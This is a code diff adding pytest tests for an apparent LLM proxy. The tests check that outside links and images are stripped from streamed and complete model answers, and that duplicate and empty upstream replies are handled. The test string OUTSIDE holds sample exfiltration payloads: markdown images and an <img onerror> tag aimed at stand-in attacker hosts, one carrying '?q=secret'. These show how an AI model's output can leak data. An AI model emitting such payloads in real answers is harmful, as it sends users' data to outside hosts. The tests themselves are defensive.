@@ -132,6 +132,62 @@ def test_llm_model_answers_through_the_upstream(client: openai.OpenAI,
     assert chunks[-1].model_extra["citations"][0]["n"] == 1
 
 
+OUTSIDE = ("see ![chart](http://evil.example.com/t.png?q=secret), [the deal](http://evil.example/d)"
+           ", <img src=http://evil.example/i.png onerror=x>, ![b]( //evil2.example/x.png) and "
+           "![c][r] www.evil.example/w.\n[r]: //evil3.example/y.png\nEnd.")
+
+
+@pytest.mark.parametrize("chunk", [1, 3, 11])
+def test_no_outside_link_or_image_leaves_in_any_streamed_delta(
+        client: openai.OpenAI, llm_server: ScriptedOpenAI, chunk: int) -> None:
+    def respond(body: dict) -> Reply:  # type: ignore[type-arg]
+        n = block_of(body, "29 Russian-made")
+        return Reply(f"Iran received 29 Tor-M1 systems [{n}]; {OUTSIDE}", chunk=chunk)
+
+    llm_server.set()
+    llm_server.responder = respond
+    chunks = list(client.chat.completions.create(
+        model="qa-llm", messages=[{"role": "user", "content": Q}], stream=True))
+    deltas = [c.choices[0].delta.content or "" for c in chunks if c.choices]
+    assert not [d for d in deltas if "evil" in d or "//" in d or "<img" in d]
+    text = "".join(deltas)
+    assert "evil" not in text and "Iran received 29 Tor-M1 systems [1]" in text
+    assert "the deal" in text and "End." in text  # a link's words stay, its address goes
+    assert len(deltas) > 3  # still streamed in pieces, not held to the end
+    assert any("removed" in n and "link" in n for n in chunks[-1].model_extra["notes"])
+    whole = client.chat.completions.create(model="qa-llm",
+                                           messages=[{"role": "user", "content": Q}])
+    assert "evil" not in whole.choices[0].message.content
+
+
+def test_stream_differing_only_in_trailing_space_is_shown_once(
+        client: openai.OpenAI, llm_server: ScriptedOpenAI) -> None:
+    def respond(body: dict) -> Reply:  # type: ignore[type-arg]
+        return Reply(f"Iran received 29 Tor-M1 systems [{block_of(body, '29 Russian-made')}]. \n")
+
+    llm_server.set()
+    llm_server.responder = respond
+    chunks = list(client.chat.completions.create(
+        model="qa-llm", messages=[{"role": "user", "content": Q}], stream=True))
+    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
+    assert "Revised" not in text and text.count("29 Tor-M1") == 1
+    notes = chunks[-1].model_extra["notes"]
+    assert len(notes) == len(set(notes))
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_upstream_that_sends_no_content_is_an_error(client: openai.OpenAI,
+                                                    llm_server: ScriptedOpenAI,
+                                                    stream: bool) -> None:
+    llm_server.set(Reply(""))
+    with pytest.raises(openai.APIStatusError) as caught:
+        r = client.chat.completions.create(model="qa-llm", stream=stream,
+                                           messages=[{"role": "user", "content": Q}])
+        list(r) if stream else None
+    assert caught.value.status_code == 502
+    assert "empty answer" in caught.value.response.json()["error"]["message"]
+
+
 @pytest.mark.parametrize(("status", "error"), [(429, openai.RateLimitError),
                                                (503, openai.InternalServerError)])
 @pytest.mark.parametrize("stream", [False, True])
